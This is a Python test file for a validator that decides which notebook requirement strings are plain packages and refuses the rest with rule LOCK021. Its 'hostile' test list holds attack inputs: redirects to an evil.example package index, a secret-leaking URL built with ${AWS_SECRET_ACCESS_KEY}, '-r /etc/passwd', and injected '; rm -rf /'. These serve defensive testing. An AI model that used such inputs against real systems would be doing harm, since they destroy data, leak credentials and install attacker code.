from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import Requirement

from pytest_nbrepro.environment.engines.requirements import named, usable
from pytest_nbrepro.findings import FindingError


def refused(*stated: str) -> tuple[str, str]:
    with pytest.raises(FindingError) as raised:
        usable(stated)
    return raised.value.finding.rule, raised.value.finding.message


def test_what_people_require_is_handed_on() -> None:
    stated = ("numpy", "Pandas[excel]>=3,<4", 'tomli; python_version < "3.11"')
    assert [str(found) for found in usable(stated)] == [str(Requirement(text)) for text in stated]
    assert named(stated) == {"numpy", "pandas", "tomli"}


@pytest.mark.parametrize(
    "address", ["https://example.org/mine-1.0.tar.gz", "git+https://example.org/mine.git@main"]
)
def test_an_address_of_the_web_may_be_required(address: str) -> None:
    (found,) = usable([f"mine @ {address}"])
    assert found.url == address


@pytest.mark.parametrize(
    "hostile",
    [
        "--index-url=https://evil.example/simple",
        "-e /etc",
        "-r /etc/passwd",
        "; rm -rf /",
        "numpy; rm -rf /",
        "numpy\n--index-url=https://evil.example/simple",
        'numpy; python_version > "3"\n-e /etc',
        "./folder",
        "/etc/mine.whl",
        "mine.zip",
        "mine.tar.GZ[extra]; python_version > '3'",
        "mine-1.0.whl",
        "mine===1.zip",
        "mine==1.0+mine.zip",
        "mine @ file:///etc/mine.whl",
        "mine @ /etc/mine.whl",
        "mine @ http://evil.example/mine-1.0.tar.gz",
        "mine @ git+ssh://evil.example/mine",
        "mine @ git+file:///etc",
        "mine @ https://evil.example/${AWS_SECRET_ACCESS_KEY}/mine-1.0.tar.gz",
        'mine; python_version > "${HOME}"',
        "numpy --hash=sha256:00",
        "",
        "(" * 100_000,
        "numpy==" + "1" * 10_000,
    ],
)
def test_what_asks_for_more_than_a_package_is_refused_and_shown(hostile: str) -> None:
    rule, message = refused("numpy", hostile)
    assert rule == "LOCK021"
    assert repr(hostile[:20])[1:-1] in message
    assert len(message) < 250


def test_no_requirement_at_all_says_how_to_state_one_or_do_without() -> None:
    with pytest.raises(FindingError) as raised:
        usable(())
    told = raised.value.finding
    assert told.rule == "LOCK020"
    assert "nbrepro requirements" in told.hint
    assert told.hint.endswith("lock all that is installed: nbrepro lock {notebook}")


@given(st.text(st.sampled_from("ab -/.@$:;=<>'\"[](){}\n\\,1~!#"), max_size=30))
def test_whatever_passes_is_one_line_that_begins_with_a_name(text: str) -> None:
    try:
        (found,) = usable([text])
    except FindingError:
        return
    assert str(found)[0].isalnum()
    assert not set("\n$") & set(str(found))
